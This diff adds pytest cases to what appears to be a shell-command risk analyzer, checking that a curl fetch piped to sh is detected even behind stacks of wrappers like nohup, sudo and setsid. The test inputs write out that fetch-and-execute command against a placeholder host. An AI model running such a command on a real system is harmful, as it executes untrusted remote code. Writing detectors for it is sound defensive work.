@@ -271,6 +271,22 @@ def test_fetch_piped_to_interpreters_and_eval() -> None:
         assert any(c.startswith("code.remote[https://x.example.org/") for c in caps(analyze_command(cmd, SCRIPT))), cmd
 
 
+@pytest.mark.parametrize("wrappers", [
+    "nohup ", "nohup nohup nohup ", "sudo -u bob env A=1 timeout 5 nice -n 3 ", "nohup " * 20,
+    "setsid stdbuf -o L ",
+])
+def test_a_fetch_behind_any_wrappers_piped_to_a_shell(wrappers: str) -> None:
+    # the stage printing the code was read past one wrapper of a fixed list; the program behind a wrapper past
+    # the 16th was not analysed at all
+    found = analyze_command(f"{wrappers}curl -s https://x.example.org/p.sh | sh", SCRIPT)
+    assert "code.remote[https://x.example.org/p.sh]" in caps(found)
+    assert "remote-code-pipe-to-shell" in rules(found)
+
+
+def test_a_wrapper_that_only_looks_a_program_up_prints_no_code() -> None:
+    assert not any(c.startswith("code.remote") for c in caps(analyze_command("command -v curl | sh", SCRIPT)))
+
+
 # ---- benign look-alikes ---------------------------------------------------------------------------
 
 @pytest.mark.parametrize(("command", "absent"), [
